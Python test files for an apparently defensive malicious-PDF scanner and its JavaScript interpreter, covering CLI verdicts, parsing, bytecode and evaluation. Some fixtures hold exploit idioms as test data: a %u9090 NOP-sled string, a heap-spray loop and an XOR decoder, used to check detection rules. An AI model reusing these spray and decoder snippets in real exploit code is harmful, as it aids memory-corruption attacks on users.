        assert main(["batch", str(tmp_path), "--jobs", "1"]) == 2
        assert "no PDF files" in capsys.readouterr().err

    def test_batch_single_file(self, tmp_path, js_doc_bytes, capsys):
        path = tmp_path / "one.pdf"
        path.write_bytes(js_doc_bytes)
        assert main(["batch", str(path), "--jobs", "1",
                     "--backend", "thread"]) == 0
        assert "scanned 1 document(s)" in capsys.readouterr().out


class TestScan:
    def test_benign_exit_code_zero(self, benign_file, capsys):
        assert main(["scan", str(benign_file)]) == 0
        assert "benign" in capsys.readouterr().out

    def test_malicious_exit_code_one(self, malicious_file, capsys):
        assert main(["scan", str(malicious_file)]) == 1
        out = capsys.readouterr().out
        assert "MALICIOUS" in out
        assert "confinement" in out

    def test_json_output(self, malicious_file, capsys):
        main(["scan", "--json", str(malicious_file)])
        payload = json.loads(capsys.readouterr().out)
        assert payload["malicious"] is True
        assert 8 in payload["features"]
        assert payload["quarantined"]

    def test_reader_version_flag(self, benign_file, capsys):
        assert main(["scan", "--reader-version", "8.0", str(benign_file)]) == 0


class TestScanTrace:
    def test_trace_and_report(self, malicious_file, tmp_path, capsys):
        trace = tmp_path / "t.jsonl"
        assert main(["scan", str(malicious_file), "--trace", str(trace)]) == 1
        capsys.readouterr()

        types = set()
        span_names = set()
        for line in trace.read_text().splitlines():
            record = json.loads(line)
            types.add(record["type"])
            if record["type"] == "span":
                span_names.add(record["name"])
        assert types == {"span", "event", "metric"}
        assert {"pipeline.scan", "instrument.document", "session.open"} <= span_names

        assert main(["report", str(trace)]) == 0
        out = capsys.readouterr().out
        assert "pipeline.scan" in out
        assert "syscall" in out
        assert "docs_scanned" in out

    def test_metrics_summary_on_stderr(self, benign_file, capsys):
        assert main(["scan", str(benign_file), "--metrics"]) == 0
        captured = capsys.readouterr()
        assert "docs_scanned" in captured.err
        assert "docs_scanned" not in captured.out  # stdout stays clean


class TestInstrumentRoundtrip:
    def test_instrument_then_deinstrument(self, benign_file, tmp_path, capsys):
        out = tmp_path / "inst.pdf"
        spec = tmp_path / "spec.json"
        assert main(["instrument", str(benign_file), "-o", str(out), "--spec", str(spec)]) == 0
        assert out.exists() and spec.exists()

        doc = PDFDocument.from_bytes(out.read_bytes())
        (action,) = list(doc.iter_javascript_actions())
        assert "SOAP.request" in doc.get_javascript_code(action)

        restored = tmp_path / "restored.pdf"
        assert main(["deinstrument", str(out), "--spec", str(spec), "-o", str(restored)]) == 0
        doc2 = PDFDocument.from_bytes(restored.read_bytes())
        (action2,) = list(doc2.iter_javascript_actions())
        assert "SOAP.request" not in doc2.get_javascript_code(action2)


class TestFeatures:
    def test_features_output(self, malicious_file, capsys):
        assert main(["features", str(malicious_file)]) == 0
        out = capsys.readouterr().out
        assert "F1 chain ratio" in out
        assert "javascript chains" in out


class TestCorpus:
    def test_corpus_generation(self, tmp_path, capsys):
        outdir = tmp_path / "corpus"
        code = main(
            ["corpus", str(outdir), "--benign", "6", "--benign-js", "2",
             "--malicious", "4", "--seed", "9"]
        )
        assert code == 0
        manifest = json.loads((outdir / "manifest.json").read_text())
        assert len(manifest) == 10
        assert len(list((outdir / "benign").iterdir())) == 6
        assert len(list((outdir / "malicious").iterdir())) == 4


class TestLint:
    def test_benign_pdf_exit_zero(self, benign_file, capsys):
        assert main(["lint", str(benign_file)]) == 0
        out = capsys.readouterr().out
        assert "triage-eligible" in out

    def test_malicious_pdf_exit_one(self, malicious_file, capsys):
        assert main(["lint", str(malicious_file)]) == 1
        out = capsys.readouterr().out
        # The proof tier upgrades the verdict line when it convicts;
        # either way the document is flagged.
        assert "=> proven malicious" in out or "=> suspicious" in out
        assert "absint:" in out

    def test_bare_js_file(self, tmp_path, capsys):
        path = tmp_path / "snippet.js"
        path.write_text('var s = unescape("%u9090%u9090");')
        assert main(["lint", str(path)]) == 1
        out = capsys.readouterr().out
        assert "unescape-sled" in out

    def test_clean_js_file_exit_zero(self, tmp_path, capsys):
        path = tmp_path / "clean.js"
        path.write_text("var x = 1 + 1;")
        assert main(["lint", str(path)]) == 0

    def test_json_output(self, malicious_file, capsys):
        assert main(["lint", str(malicious_file), "--json"]) == 1
        payload = json.loads(capsys.readouterr().out)
        assert payload["suspicious"] is True
        assert payload["reports"]
        rules = {
            f["rule"] for r in payload["reports"] for f in r["findings"]
        }
        assert rules  # at least one rule fired

    def test_missing_file_exit_two(self, tmp_path, capsys):
        assert main(["lint", str(tmp_path / "nope.pdf")]) == 2

    def test_unparseable_pdf_exit_two(self, tmp_path, capsys):
        path = tmp_path / "bad.pdf"
        path.write_bytes(b"%PDF-1.4 truncated nonsense without objects")
        assert main(["lint", str(path)]) == 2

    def test_unparseable_js_is_flagged_not_crashed(self, tmp_path, capsys):
        path = tmp_path / "broken.js"
        path.write_text("var = ;;; <<<")
        assert main(["lint", str(path)]) == 1
        assert "unparseable-js" in capsys.readouterr().out


class TestScanTriage:
    def test_benign_triaged(self, tmp_path, simple_doc_bytes, capsys):
        path = tmp_path / "plain.pdf"
        path.write_bytes(simple_doc_bytes)
        assert main(["scan", str(path), "--triage"]) == 0
        out = capsys.readouterr().out
        assert "triaged: emulation skipped" in out

    def test_malicious_triaged_as_proven(self, malicious_file, capsys):
        # The proof tier convicts the spray statically: triaged, exit 1.
        assert main(["scan", str(malicious_file), "--triage"]) == 1
        out = capsys.readouterr().out
        assert "statically proven malicious" in out
        assert "MALICIOUS" in out

    @pytest.mark.batch
    def test_batch_triage_summary(self, tmp_path, simple_doc_bytes,
                                  malicious_doc_bytes, capsys):
        root = tmp_path / "corpus"
        root.mkdir()
        (root / "plain.pdf").write_bytes(simple_doc_bytes)
        (root / "mal.pdf").write_bytes(malicious_doc_bytes)
        code = main(["batch", str(root), "--jobs", "1", "--backend", "thread",
                     "--triage"])
        out = capsys.readouterr().out
        assert code == 1
        # Both docs settle statically now: the benign one is clean, the
        # malicious one is proven by the absint tier.
        assert "triaged   : 2 (emulation skipped)" in out


class TestProfile:
    def test_profile_prints_phase_and_hotspot_tables(self, benign_file, capsys):
        code = main(["profile", str(benign_file)])
        out = capsys.readouterr().out
        assert code == 0
        assert "total" in out and "across phases" in out
        assert "js-exec" in out
        assert "AST node hotspots" in out
        assert "call-sites" in out

    def test_profile_collapsed_output(self, benign_file, tmp_path, capsys):
        collapsed = tmp_path / "collapsed.txt"
        main(["profile", str(benign_file), "--collapsed", str(collapsed)])
        capsys.readouterr()
        lines = collapsed.read_text().splitlines()
        assert lines, "no collapsed stacks written"
        for line in lines:
            stack, _, micros = line.rpartition(" ")
            assert stack.startswith("(root)")
            assert int(micros) >= 0

    def test_profile_json_output(self, benign_file, capsys):
        code = main(["profile", str(benign_file), "--json", "-", "--top", "3"])
        payload = json.loads(capsys.readouterr().out)
        assert code == 0
        assert payload["total_seconds"] > 0.0
        assert abs(
            sum(payload["phases"].values()) - payload["total_seconds"]
        ) <= 0.05 * payload["total_seconds"]
        assert len(payload["js"]["hotspots"]) <= 3

    def test_profile_missing_file_exit_two(self, tmp_path, capsys):
        assert main(["profile", str(tmp_path / "absent.pdf")]) == 2
        assert "cannot read" in capsys.readouterr().err

    @pytest.mark.batch
    def test_batch_profile_flag(self, tmp_path, js_doc_bytes, capsys):
        root = tmp_path / "corpus"
        root.mkdir()
        (root / "a.pdf").write_bytes(js_doc_bytes)
        code = main(["batch", str(root), "--jobs", "1", "--backend", "thread",
                     "--profile", "--json", "-"])
        out = capsys.readouterr().out
        assert code == 0
        assert "phases    :" in out
        payload = json.loads(out[out.index("{"):])
        assert payload["phase_totals"]["js-exec"] > 0.0
