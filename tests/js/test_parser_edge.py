"""Parser edge cases exercised by obfuscated corpus scripts (ISSUE 3):
nested ternaries, string-escape handling, long fromCharCode call
chains, and deeply nested concatenation."""

import pytest

from repro.js import nodes as ast
from repro.js.errors import JSSyntaxError
from repro.js.parser import parse


def first_expr(source):
    node = parse(source).body[0]
    assert isinstance(node, ast.ExpressionStatement)
    return node.expression


class TestNestedTernaries:
    def test_right_associative_nesting(self):
        expr = first_expr("a ? b : c ? d : e;")
        assert isinstance(expr, ast.ConditionalExpression)
        assert isinstance(expr.alternate, ast.ConditionalExpression)
        assert not isinstance(expr.consequent, ast.ConditionalExpression)

    def test_ternary_in_consequent(self):
        expr = first_expr("a ? b ? c : d : e;")
        assert isinstance(expr, ast.ConditionalExpression)
        assert isinstance(expr.consequent, ast.ConditionalExpression)

    def test_five_levels_deep(self):
        source = "a ? 1 : b ? 2 : c ? 3 : d ? 4 : e ? 5 : 6;"
        expr = first_expr(source)
        depth = 0
        while isinstance(expr, ast.ConditionalExpression):
            depth += 1
            expr = expr.alternate
        assert depth == 5

    def test_ternary_inside_call_argument(self):
        expr = first_expr("f(a ? b : c, d);")
        assert isinstance(expr, ast.CallExpression)
        assert isinstance(expr.arguments[0], ast.ConditionalExpression)
        assert len(expr.arguments) == 2

    def test_ternary_condition_binds_looser_than_or(self):
        expr = first_expr("a || b ? c : d;")
        assert isinstance(expr, ast.ConditionalExpression)
        assert isinstance(expr.test, ast.LogicalExpression)


class TestStringEscapes:
    @pytest.mark.parametrize(
        "literal,expected",
        [
            (r'"\n"', "\n"),
            (r'"\t"', "\t"),
            (r'"\r"', "\r"),
            (r'"\\"', "\\"),
            (r'"\""', '"'),
            (r"'\''", "'"),
            (r'"\x41"', "A"),
            (r'"A"', "A"),
            (r'"䅁"', "䅁"),
            (r'"\0"', "\0"),
        ],
    )
    def test_escape_sequences(self, literal, expected):
        expr = first_expr(f"{literal};")
        assert isinstance(expr, ast.StringLiteral)
        assert expr.value == expected

    def test_percent_u_is_not_an_escape(self):
        # %uXXXX shellcode units are plain text at the lexer level —
        # only unescape() gives them meaning.
        expr = first_expr('"%u9090%u9090";')
        assert expr.value == "%u9090%u9090"

    def test_mixed_quotes(self):
        expr = first_expr("\"it's\";")
        assert expr.value == "it's"

    def test_unknown_escape_passes_char_through(self):
        expr = first_expr(r'"\q";')
        assert expr.value == "q"

    def test_unterminated_string_raises(self):
        with pytest.raises(JSSyntaxError):
            parse('var s = "never closed;')


class TestFromCharCodeChains:
    def test_long_call_chain_parses_flat(self):
        chain = " + ".join(
            f"String.fromCharCode({65 + i})" for i in range(64)
        )
        expr = first_expr(f"{chain};")
        calls = 0
        node = expr
        while isinstance(node, ast.BinaryExpression):
            assert node.op == "+"
            assert isinstance(node.right, ast.CallExpression)
            calls += 1
            node = node.left
        assert isinstance(node, ast.CallExpression)
        assert calls == 63

    def test_many_arguments_in_one_call(self):
        args = ", ".join(str(60 + i) for i in range(200))
        expr = first_expr(f"String.fromCharCode({args});")
        assert isinstance(expr, ast.CallExpression)
        assert len(expr.arguments) == 200

    def test_nested_call_arguments(self):
        expr = first_expr(
            "String.fromCharCode(parseInt(h.substr(0, 2), 16));"
        )
        inner = expr.arguments[0]
        assert isinstance(inner, ast.CallExpression)
        assert isinstance(inner.arguments[0], ast.CallExpression)


class TestDeepConcatenation:
    def test_hundred_term_concat(self):
        source = " + ".join(f'"frag{i}"' for i in range(100)) + ";"
        expr = first_expr(source)
        leaves = 0
        stack = [expr]
        while stack:
            node = stack.pop()
            if isinstance(node, ast.BinaryExpression):
                stack.extend((node.left, node.right))
            else:
                assert isinstance(node, ast.StringLiteral)
                leaves += 1
        assert leaves == 100

    def test_left_associativity(self):
        expr = first_expr('"a" + "b" + "c";')
        assert isinstance(expr.left, ast.BinaryExpression)
        assert isinstance(expr.right, ast.StringLiteral)
        assert expr.right.value == "c"

    def test_parenthesised_grouping_overrides(self):
        expr = first_expr('"a" + ("b" + "c");')
        assert isinstance(expr.left, ast.StringLiteral)
        assert isinstance(expr.right, ast.BinaryExpression)

    def test_concat_across_continued_var_statement(self):
        source = 'var s = "a" +\n    "b" +\n    "c";'
        node = parse(source).body[0]
        assert isinstance(node, ast.VarDeclaration)
        init = node.declarations[0][1]
        assert isinstance(init, ast.BinaryExpression)

    def test_deep_parenthesis_nesting(self):
        depth = 60
        source = "(" * depth + '"x"' + ")" * depth + ";"
        expr = first_expr(source)
        assert isinstance(expr, ast.StringLiteral)
        assert expr.value == "x"
