"""Bytecode-engine semantics that the differential suite can't pin.

The charging rule (one step per walker ``exec_statement`` /
``eval_expression`` entry, pre-order) is part of the engine contract:
a verdict can hinge on *where* the step budget blows, so both engines
must count identically — these tests pin the exact totals so a charge
regression shows up as a number, not as a distant verdict flip.  Also
covered here: the per-process code cache, cross-engine function
objects, the profiler fallback, and the ``arguments``-elision
optimisation.
"""

from __future__ import annotations

import pytest

from repro.js import make_interpreter
from repro.js.compiler import (
    INC_SLOT,
    STORE_SLOT_POP,
    clear_code_cache,
    code_cache_size,
    compile_source,
    disassemble,
)
from repro.js.vm import BytecodeInterpreter

# One step per statement/expression the walker would visit, pre-order.
# Totals were measured on the reference walker; the VM must agree.
PINNED_STEPS = [
    ("1 + 2", 4),                       # stmt + binary + 2 literals
    ("var x = 1;", 2),                  # stmt + init expr
    ("var x = 1; x && 2", 6),           # && charges both sides here
    ("var x = 0; x || 3", 6),
    ("true ? 1 : 2", 4),                # only the taken branch charges
    ("var x = 1; x += 2", 6),           # compound: target read + value + write
    ("var o = {a: 1}; o.a", 6),
    ("var o = {f: function(){ return 1; }}; o.f()", 9),
    ("for (var i = 0; i < 2; i++) { }", 18),
    ("var i = 0; i++;", 5),             # stmt + update + identifier (fused op)
    ("for (var k in {a: 1}) { }", 5),
    ("typeof x", 3),                    # unresolved name still charges
    ("var o = {a: 1}; delete o.a", 7),
    ("function g(){ return arguments.length; } g(1)", 8),
    ("function h(){ return 1; } h()", 6),
]


@pytest.mark.parametrize("source,expected", PINNED_STEPS, ids=lambda c: str(c)[:40])
def test_pinned_step_counts(source, expected) -> None:
    walker = make_interpreter("ast")
    compiled = make_interpreter("bytecode")
    walker.run(source)
    compiled.run(source)
    assert walker.steps == expected, f"walker drifted on {source!r}"
    assert compiled.steps == expected, f"vm drifted on {source!r}"


def test_budget_blows_at_identical_tick() -> None:
    source = "var s = 0; for (var i = 0; i < 100; i++) s += i;"
    for budget in (1, 2, 3, 5, 8, 13, 21, 34):
        runs = []
        for engine in ("ast", "bytecode"):
            interp = make_interpreter(engine, max_steps=budget)
            try:
                interp.run(source)
                outcome = "ok"
            except Exception as exc:  # noqa: BLE001
                outcome = type(exc).__name__
            runs.append((outcome, interp.steps))
        assert runs[0] == runs[1], f"budget={budget}: {runs}"


# ---------------------------------------------------------------------------
# Code cache


def test_compile_source_is_memoised() -> None:
    clear_code_cache()
    source = "var memo_probe = 1; memo_probe + 1"
    first = compile_source(source)
    second = compile_source(source)
    assert first is second
    assert code_cache_size() == 1


def test_code_cache_is_bounded() -> None:
    clear_code_cache()
    for index in range(300):
        compile_source(f"var bound_probe_{index} = {index};")
    assert code_cache_size() <= 256
    clear_code_cache()
    assert code_cache_size() == 0


def test_parse_errors_are_not_cached() -> None:
    clear_code_cache()
    bad = "var broken = ((("
    for _ in range(2):
        with pytest.raises(Exception):
            compile_source(bad)
    assert code_cache_size() == 0


# ---------------------------------------------------------------------------
# Cross-engine function objects: a function created by one engine must be
# callable from the other (the reader shares one global environment).


def test_walker_function_callable_from_vm() -> None:
    walker = make_interpreter("ast")
    walker.run("function shared(n) { return n * 2; }")
    fn = walker.global_env.lookup("shared")
    compiled = BytecodeInterpreter(host=walker.host)
    compiled.global_env = walker.global_env
    assert compiled.call_function(fn, compiled.global_this, [21.0]) == 42.0


def test_vm_function_callable_from_walker() -> None:
    compiled = make_interpreter("bytecode")
    compiled.run("function shared(n) { return n + 1; }")
    fn = compiled.global_env.lookup("shared")
    walker = make_interpreter("ast", host=compiled.host)
    walker.global_env = compiled.global_env
    assert walker.call_function(fn, walker.global_this, [41.0]) == 42.0


# ---------------------------------------------------------------------------
# Profiler fallback: JSProfile needs per-AST-node attribution, so an
# attached profile routes execution through the inherited walker.


def test_profile_attaches_via_walker_path() -> None:
    from repro.obs.profile import ScanProfile

    profile = ScanProfile().start()
    interp = make_interpreter("bytecode")
    interp.set_profile(profile.js)
    assert interp.run("var p = 0; for (var i = 0; i < 3; i++) p += i; p") == 3.0
    profile.finish()
    # The walker path must have attributed at least one node kind.
    assert profile.js.node_stats


# ---------------------------------------------------------------------------
# Fused opcodes and the arguments-elision optimisation


def test_statement_update_compiles_to_fused_opcode() -> None:
    code = compile_source("function tick() { var i = 0; i++; i--; }")
    listing = disassemble(code)
    assert "INC_SLOT" in listing
    fn_code = code.args[code.ops.index(32)]  # MAKE_FUNCTION arg
    assert fn_code.ops.count(INC_SLOT) == 2


def test_statement_store_folds_pop() -> None:
    code = compile_source("function set() { var x = 0; x = 1; x = x + 1; }")
    fn_code = code.args[code.ops.index(32)]
    assert STORE_SLOT_POP in fn_code.ops


def test_value_position_update_is_not_fused() -> None:
    code = compile_source("function keep() { var i = 0; var r = i++; return r; }")
    fn_code = code.args[code.ops.index(32)]
    assert INC_SLOT not in fn_code.ops


def test_arguments_init_elided_when_unreferenced() -> None:
    used = compile_source("function a() { return arguments.length; } a()")
    unused = compile_source("function b() { return 1; } b()")
    used_fn = used.args[used.ops.index(32)]
    unused_fn = unused.args[unused.ops.index(32)]
    from repro.js.compiler import INIT_ARGUMENTS

    used_kinds = [entry[1] for entry in used_fn.init_plan]
    unused_kinds = [entry[1] for entry in unused_fn.init_plan]
    assert INIT_ARGUMENTS in used_kinds
    assert INIT_ARGUMENTS not in unused_kinds


def test_arguments_still_behaves_when_used() -> None:
    for engine in ("ast", "bytecode"):
        interp = make_interpreter(engine)
        got = interp.run(
            "function probe() { return arguments.length + ':' + arguments[0]; }"
            " probe('x', 'y')"
        )
        assert got == "2:x"
