"""Unit tests for the JavaScript evaluator."""

import math

import pytest

from repro.js import evaluate
from repro.js.errors import JSRuntimeError, JSThrow, ResourceLimitExceeded
from repro.js.interpreter import Interpreter


class TestArithmetic:
    @pytest.mark.parametrize(
        "source,expected",
        [
            ("1 + 2", 3.0),
            ("10 - 4", 6.0),
            ("6 * 7", 42.0),
            ("9 / 2", 4.5),
            ("7 % 3", 1.0),
            ("2 * (3 + 4)", 14.0),
            ("-5 + +3", -2.0),
        ],
    )
    def test_numbers(self, source, expected):
        assert evaluate(source) == expected

    def test_division_by_zero_is_infinity(self):
        assert evaluate("1 / 0") == math.inf
        assert evaluate("-1 / 0") == -math.inf
        assert math.isnan(evaluate("0 / 0"))

    def test_string_concatenation_coerces(self):
        assert evaluate("'n=' + 5") == "n=5"
        assert evaluate("5 + '5'") == "55"
        assert evaluate("'' + true") == "true"
        assert evaluate("'' + undefined") == "undefined"
        assert evaluate("'' + null") == "null"

    def test_numeric_string_arithmetic(self):
        assert evaluate("'10' - 3") == 7.0
        assert evaluate("'4' * '2'") == 8.0

    def test_bitwise(self):
        assert evaluate("0xF0 & 0x1F") == 16.0
        assert evaluate("1 << 4") == 16.0
        assert evaluate("-1 >>> 28") == 15.0
        assert evaluate("5 ^ 3") == 6.0
        assert evaluate("~0") == -1.0


class TestComparisons:
    def test_loose_equality(self):
        assert evaluate("1 == '1'") is True
        assert evaluate("null == undefined") is True
        assert evaluate("0 == false") is True

    def test_strict_equality(self):
        assert evaluate("1 === '1'") is False
        assert evaluate("1 === 1") is True
        assert evaluate("null === undefined") is False

    def test_nan_never_equal(self):
        assert evaluate("NaN == NaN") is False
        assert evaluate("NaN === NaN") is False

    def test_relational_strings(self):
        assert evaluate("'abc' < 'abd'") is True

    def test_relational_numbers(self):
        assert evaluate("3 <= 3") is True
        assert evaluate("2 > 5") is False


class TestControlFlow:
    def test_if_else(self):
        assert evaluate("var r; if (2 > 1) r = 'yes'; else r = 'no'; r") == "yes"

    def test_while_with_break_continue(self):
        source = """
        var total = 0, i = 0;
        while (true) {
            i++;
            if (i > 10) break;
            if (i % 2) continue;
            total += i;
        }
        total
        """
        assert evaluate(source) == 30.0

    def test_do_while_runs_once(self):
        assert evaluate("var n = 0; do { n++; } while (false); n") == 1.0

    def test_for_loop(self):
        assert evaluate("var s = 0; for (var i = 1; i <= 4; i++) s += i; s") == 10.0

    def test_for_in_object_keys(self):
        source = "var ks = []; for (var k in {a:1, b:2}) ks.push(k); ks.join(',')"
        assert evaluate(source) == "a,b"

    def test_for_in_array_indices(self):
        source = "var t = 0; var a = [10, 20]; for (var i in a) t += a[i]; t"
        assert evaluate(source) == 30.0

    def test_switch_fallthrough_and_default(self):
        source = """
        var out = [];
        switch (2) {
            case 1: out.push('one');
            case 2: out.push('two');
            case 3: out.push('three'); break;
            case 4: out.push('four');
        }
        out.join('-')
        """
        assert evaluate(source) == "two-three"

    def test_switch_default(self):
        assert evaluate("var r; switch (9) { case 1: r='a'; break; default: r='d'; } r") == "d"


class TestFunctions:
    def test_closure_captures(self):
        source = """
        function counter() {
            var n = 0;
            return function() { n += 1; return n; };
        }
        var c = counter();
        c(); c(); c()
        """
        assert evaluate(source) == 3.0

    def test_recursion(self):
        assert evaluate("function f(n){ return n < 2 ? n : f(n-1)+f(n-2); } f(12)") == 144.0

    def test_arguments_object(self):
        assert evaluate("function f(){ return arguments.length; } f(1,2,3)") == 3.0

    def test_missing_args_are_undefined(self):
        assert evaluate("function f(a, b){ return typeof b; } f(1)") == "undefined"

    def test_hoisting_of_function_declarations(self):
        assert evaluate("hoisted(); function hoisted(){ return 1; } hoisted()") == 1.0

    def test_var_hoisting(self):
        assert evaluate("typeof later; var later = 5; typeof later") == "number"

    def test_this_in_method_call(self):
        source = "var o = {n: 7, get: function(){ return this.n; }}; o.get()"
        assert evaluate(source) == 7.0

    def test_new_constructor(self):
        source = """
        function Point(x, y) { this.x = x; this.y = y; }
        var p = new Point(3, 4);
        p.x + p.y
        """
        assert evaluate(source) == 7.0

    def test_prototype_method(self):
        source = """
        function T(){}
        T.prototype = {tag: function(){ return 'ok'; }};
        new T().tag()
        """
        assert evaluate(source) == "ok"

    def test_calling_non_function_raises(self):
        with pytest.raises(JSRuntimeError):
            evaluate("var x = 5; x();")


class TestExceptions:
    def test_throw_and_catch_value(self):
        assert evaluate("var r; try { throw 42; } catch (e) { r = e; } r") == 42.0

    def test_runtime_error_catchable(self):
        source = "var u; var r = 'no'; try { u.prop; } catch (e) { r = e.name; } r"
        assert evaluate(source) == "TypeError"

    def test_reference_error_catchable(self):
        source = "var r = 'no'; try { missing.prop; } catch (e) { r = e.name; } r"
        assert evaluate(source) == "ReferenceError"

    def test_finally_always_runs(self):
        source = """
        var log = [];
        try { log.push('t'); throw 'x'; }
        catch (e) { log.push('c'); }
        finally { log.push('f'); }
        log.join('')
        """
        assert evaluate(source) == "tcf"

    def test_uncaught_throw_escapes(self):
        with pytest.raises(JSThrow):
            evaluate("throw 'boom';")

    def test_reading_property_of_undefined_raises(self):
        with pytest.raises(JSRuntimeError):
            evaluate("undefined.anything")


class TestEval:
    def test_direct_eval_sees_local_scope(self):
        assert evaluate("function f(){ var secret = 9; return eval('secret'); } f()") == 9.0

    def test_eval_declares_into_caller(self):
        assert evaluate("eval('var q = 3;'); q") == 3.0

    def test_eval_non_string_passthrough(self):
        assert evaluate("eval(5)") == 5.0


class TestResourceLimits:
    def test_infinite_loop_bounded(self):
        with pytest.raises(ResourceLimitExceeded):
            Interpreter(max_steps=10_000).run("while (true) {}")

    def test_allocation_accounting(self):
        interp = Interpreter()
        interp.run("var s = 'ab'; while (s.length < 4096) s += s;")
        assert interp.host.allocated_bytes >= 4096 * 2

    def test_spray_pool_collects_large_strings(self):
        interp = Interpreter()
        interp.run("var s = 'xy'; while (s.length < 10000) s += s;")
        assert interp.host.spray_pool


class TestOperatorsMisc:
    def test_typeof_unresolved_identifier(self):
        assert evaluate("typeof neverDeclared") == "undefined"

    def test_delete_property(self):
        assert evaluate("var o = {a: 1}; delete o.a; typeof o.a") == "undefined"

    def test_in_operator(self):
        assert evaluate("'a' in {a: 1}") is True
        assert evaluate("'b' in {a: 1}") is False

    def test_instanceof(self):
        source = "function C(){} var c = new C(); c instanceof C"
        assert evaluate(source) is True

    def test_logical_short_circuit_values(self):
        assert evaluate("0 || 'fallback'") == "fallback"
        assert evaluate("1 && 'chained'") == "chained"
        assert evaluate("0 && neverEvaluated") == 0.0

    def test_ternary(self):
        assert evaluate("5 > 3 ? 'y' : 'n'") == "y"

    def test_update_expressions(self):
        assert evaluate("var i = 5; i++ + i") == 11.0
        assert evaluate("var j = 5; ++j + j") == 12.0

    def test_compound_assignment_on_member(self):
        assert evaluate("var o = {n: 1}; o.n += 4; o.n") == 5.0

    def test_sequence_returns_last(self):
        assert evaluate("(1, 2, 3)") == 3.0

    def test_implicit_global_assignment(self):
        assert evaluate("function f(){ leaked = 12; } f(); leaked") == 12.0
