"""Unit tests for the JavaScript tokenizer."""

import pytest

from repro.js.errors import JSSyntaxError
from repro.js.lexer import TokenType, tokenize


def values(source):
    return [(t.type, t.value) for t in tokenize(source)[:-1]]


class TestNumbers:
    def test_integer(self):
        assert values("42") == [(TokenType.NUMBER, 42.0)]

    def test_float_and_exponent(self):
        assert values("3.14 1e3 2.5e-2") == [
            (TokenType.NUMBER, 3.14),
            (TokenType.NUMBER, 1000.0),
            (TokenType.NUMBER, 0.025),
        ]

    def test_hex(self):
        assert values("0x10 0xFF") == [
            (TokenType.NUMBER, 16.0),
            (TokenType.NUMBER, 255.0),
        ]

    def test_leading_dot(self):
        assert values(".5") == [(TokenType.NUMBER, 0.5)]

    def test_bad_exponent_raises(self):
        with pytest.raises(JSSyntaxError):
            tokenize("1e")

    def test_bad_hex_raises(self):
        with pytest.raises(JSSyntaxError):
            tokenize("0x")


class TestStrings:
    def test_single_and_double_quotes(self):
        assert values("'a' \"b\"") == [
            (TokenType.STRING, "a"),
            (TokenType.STRING, "b"),
        ]

    def test_escapes(self):
        (token,) = tokenize(r"'\n\t\\\''")[:-1]
        assert token.value == "\n\t\\'"

    def test_hex_and_unicode_escapes(self):
        (token,) = tokenize(r"'\x41邐'")[:-1]
        assert token.value == "A邐"

    def test_unterminated_raises(self):
        with pytest.raises(JSSyntaxError):
            tokenize("'never")

    def test_newline_in_string_raises(self):
        with pytest.raises(JSSyntaxError):
            tokenize("'line\nbreak'")

    def test_bad_unicode_escape_raises(self):
        with pytest.raises(JSSyntaxError):
            tokenize(r"'\uZZZZ'")


class TestIdentifiersAndKeywords:
    def test_identifier_charset(self):
        assert values("_a $b a1") == [
            (TokenType.IDENTIFIER, "_a"),
            (TokenType.IDENTIFIER, "$b"),
            (TokenType.IDENTIFIER, "a1"),
        ]

    def test_keywords_recognised(self):
        for word in ("var", "function", "typeof", "instanceof", "undefined"):
            assert values(word) == [(TokenType.KEYWORD, word)]


class TestOperatorsAndComments:
    def test_max_munch(self):
        ops = [v for _t, v in values("a===b !== c >>> 1 >>= 2")]
        assert "===" in ops and "!==" in ops and ">>>" in ops and ">>=" in ops

    def test_line_comment(self):
        assert values("1 // ignored\n2") == [
            (TokenType.NUMBER, 1.0),
            (TokenType.NUMBER, 2.0),
        ]

    def test_block_comment(self):
        assert values("1 /* x\ny */ 2") == [
            (TokenType.NUMBER, 1.0),
            (TokenType.NUMBER, 2.0),
        ]

    def test_unterminated_block_comment_raises(self):
        with pytest.raises(JSSyntaxError):
            tokenize("/* forever")

    def test_unexpected_character_raises(self):
        with pytest.raises(JSSyntaxError):
            tokenize("var §")

    def test_line_numbers_tracked(self):
        tokens = tokenize("a\nb\nc")
        assert [t.line for t in tokens[:-1]] == [1, 2, 3]
