"""Shared definition of the golden disassembly corpus.

Ten representative scripts — covering slot functions, env-mode
closures, loops (with the fused superinstructions), exceptions,
``eval``, constructors and the shellcode-decoder idiom — are compiled
and their :func:`repro.js.compiler.disassemble` listings pinned under
``tests/data/disasm/``.  An unintended change to emission (opcode
layout, charge placement, slot allocation) shows up as a readable
listing diff instead of a distant behaviour change.

Regenerate (only after an *intentional* compiler change)::

    PYTHONPATH=src python -m tests.js.golden_disasm

then review the listing diffs and commit them together with the
compiler change that moved them.
"""

from __future__ import annotations

from pathlib import Path
from typing import Dict

DISASM_DIR = Path(__file__).resolve().parent.parent / "data" / "disasm"

REGEN_COMMAND = "PYTHONPATH=src python -m tests.js.golden_disasm"

#: name -> source.  Names are file stems; keep them stable.
GOLDEN_SCRIPTS: Dict[str, str] = {
    "arith_program": "var x = 1 + 2 * 3; var y = x % 4; x + y",
    "slot_function": (
        "function add(a, b) { var total = a + b; return total; }\n"
        "add(2, 3)"
    ),
    "counting_loop": (
        "function count(n) {\n"
        "  var total = 0;\n"
        "  for (var i = 0; i < n; i++) { total += i; }\n"
        "  return total;\n"
        "}\n"
        "count(10)"
    ),
    "decoder_loop": (
        "function decode(data, key) {\n"
        "  var out = '';\n"
        "  for (var i = 0; i < data.length; i++) {\n"
        "    out += String.fromCharCode(data.charCodeAt(i) ^ key);\n"
        "  }\n"
        "  return out;\n"
        "}\n"
        "decode('secret', 42)"
    ),
    "spray_idiom": (
        "var sled = unescape('%u9090%u9090');\n"
        "while (sled.length < 4096) sled += sled;\n"
        "var mem = [];\n"
        "for (var i = 0; i < 8; i++) { mem[i] = sled.substr(0, sled.length); }"
    ),
    "closure_env": (
        "function counter() { var n = 0; return function () { return ++n; }; }\n"
        "var tick = counter(); tick(); tick()"
    ),
    "try_catch_finally": (
        "var log = '';\n"
        "try { log += 'a'; throw 'boom'; }\n"
        "catch (e) { log += e; }\n"
        "finally { log += 'z'; }\n"
        "log"
    ),
    "eval_and_branches": (
        "var mode = 2;\n"
        "if (mode === 1) { eval('mode = 10'); }\n"
        "else if (mode === 2) { mode = 20; }\n"
        "else { mode = 30; }\n"
        "mode"
    ),
    "object_member_ops": (
        "var doc = {pages: 3, info: {title: 'T'}};\n"
        "doc.pages++;\n"
        "doc.info.title += '!';\n"
        "delete doc.pages;\n"
        "typeof doc.pages"
    ),
    "forin_and_new": (
        "function Pair(a, b) { this.a = a; this.b = b; }\n"
